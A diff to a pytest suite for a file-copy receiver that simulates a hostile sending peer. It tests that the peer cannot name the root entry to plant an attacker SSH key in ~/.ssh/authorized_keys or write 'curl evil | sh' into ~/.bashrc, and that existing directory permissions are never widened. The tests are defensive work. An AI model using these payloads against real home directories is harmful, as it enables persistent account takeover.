@@ -55,8 +55,11 @@ class HostileSource:
             kind, _ = self.ctl.recv(timeout=TIMEOUT)
             assert kind == Msg.PEER_CONNECTED
 
-    def receive(self, dest: Path, sources: int = 1, overwrite: bool = False) -> None:
-        self.ctl.send(Msg.RECEIVE, [str(dest), sources, False, overwrite])
+    def receive(self, dest: Path, sources: int = 1, overwrite: bool = False,
+                rules: list[tuple[str, str]] | None = None) -> None:
+        """`rules`: what each operand lets the source call its root (default: any visible name)."""
+        flat = [part for rule in (rules or [("any", "")] * sources) for part in rule]
+        self.ctl.send(Msg.RECEIVE, [str(dest), sources, False, overwrite, flat])
 
     # The destination may hang up on us mid-script (that is a pass, judged
     # by outcome()): sends after that are dropped.
@@ -172,6 +175,86 @@ def test_bad_relative_paths_never_escape(world, hostile: HostileSource, rel: str
     assert kind != "result" or fields[5] >= 1, outcome
     names = {str(p.relative_to(dest)) for p in dest.rglob("*")}
     assert names <= {"tree"}, names
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Iterator[Path]:
+    """A victim's home as the destination: a private ~/.ssh and a ~/.bashrc."""
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    os.chmod(home / ".ssh", 0o700)
+    os.utime(home / ".ssh", (1_000_000_000, 1_000_000_000))
+    (home / ".bashrc").write_text("# the user's own\n")
+    before = snapshot(home)
+    yield home
+    assert snapshot(home) == before, "the source changed the home it was not asked to touch"
+    assert oct(os.stat(home / ".ssh").st_mode & 0o7777) == oct(0o700)
+
+
+@pytest.mark.parametrize("overwrite", [False, True])
+@pytest.mark.parametrize("rule, name, kind", [
+    (("name", "report.pdf"), ".ssh", "d"),       # rcp evil:report.pdf ~/  ->  ~/.ssh/authorized_keys
+    (("name", "report.pdf"), ".bashrc", "f"),
+    (("name", "report.pdf"), "report.pdf.sh", "f"),
+    (("glob", "*.pdf"), ".bashrc", "f"),
+    (("glob", "*.pdf"), ".ssh", "d"),
+    (("glob", "*.pdf"), "x.sh", "f"),
+    (("any", ""), ".ssh", "d"),                  # rcp evil: ~/  names no component
+    (("any", ""), ".bashrc", "f"),
+])
+def test_the_source_cannot_choose_the_root_name(home: Path, hostile: HostileSource, rule: tuple[str, str],
+                                                name: str, kind: str, overwrite: bool) -> None:
+    hostile.receive(home, overwrite=overwrite, rules=[rule])
+    hostile.send(Msg.ROOT, [0, name, kind, ""])
+    if kind == "d":
+        hostile.send(Msg.DIR, [0, "", 0o777, 1_600_000_000, 0])
+        hostile.stream(record("authorized_keys", b"ssh-ed25519 AAAA attacker\n", mode=0o600))
+    else:
+        hostile.stream(record("", b"curl evil | sh\n"))
+    hostile.send(Msg.DONE, [1, 0])
+    outcome = hostile.outcome()
+    assert outcome[0] == "error", outcome
+    assert "source misbehaved" in errors_of(outcome), outcome
+
+
+@pytest.mark.parametrize("rule, name", [(("name", "report.pdf"), "report.pdf"), (("glob", "*.pdf"), "a.pdf"),
+                                        (("glob", "r[e]p*"), "report"), (("any", ""), "data")])
+def test_a_root_the_operand_allows_is_copied(world, hostile: HostileSource, rule: tuple[str, str],
+                                             name: str) -> None:
+    dest, _ = world
+    hostile.receive(dest, rules=[rule])
+    hostile.send(Msg.ROOT, [0, name, "f", ""])
+    hostile.stream(record("", b"content"))
+    hostile.send(Msg.DONE, [1, 7])
+    kind, fields = outcome = hostile.outcome()
+    assert kind == "result" and fields[0] == 1 and fields[5] == 0, outcome
+    assert (dest / name).read_bytes() == b"content"
+
+
+@pytest.mark.parametrize("overwrite", [False, True])
+def test_an_existing_directory_is_never_widened(world, hostile: HostileSource, overwrite: bool) -> None:
+    dest, _ = world
+    (dest / "tree" / "sub").mkdir(parents=True)
+    for d in (dest / "tree", dest / "tree" / "sub"):
+        os.chmod(d, 0o750)
+        os.utime(d, (1_000_000_000, 1_000_000_000))
+    hostile.receive(dest, overwrite=overwrite, rules=[("name", "tree")])
+    hostile.send(Msg.ROOT, [0, "tree", "d", ""])
+    hostile.send(Msg.DIR, [0, "", 0o777, 1_600_000_000, 0])
+    hostile.send(Msg.DIR, [0, "sub", 0o705, 1_600_000_000, 0])
+    hostile.send(Msg.DIR, [0, "new", 0o755, 1_600_000_000, 0])
+    hostile.send(Msg.DONE, [0, 0])
+    kind, fields = outcome = hostile.outcome()
+    assert kind == "result" and fields[5] == 0, outcome
+    modes = {d: os.stat(dest / "tree" / d).st_mode & 0o7777 for d in ("", "sub", "new")}
+    mtimes = {d: os.stat(dest / "tree" / d).st_mtime for d in ("", "sub")}
+    assert modes["new"] == 0o755  # created by this copy: the source's mode
+    if overwrite:  # only ever narrowed: the existing mode AND the source's
+        assert modes[""] == 0o750 and modes["sub"] == 0o700, modes
+        assert mtimes == {"": 1_600_000_000, "sub": 1_600_000_000}, mtimes
+    else:  # the user's directories are left alone
+        assert modes[""] == 0o750 and modes["sub"] == 0o750, modes
+        assert mtimes["sub"] == 1_000_000_000, mtimes  # ("" changed: "new" was created in it)
 
 
 def test_entry_never_requested_is_refused(world, hostile: HostileSource) -> None:
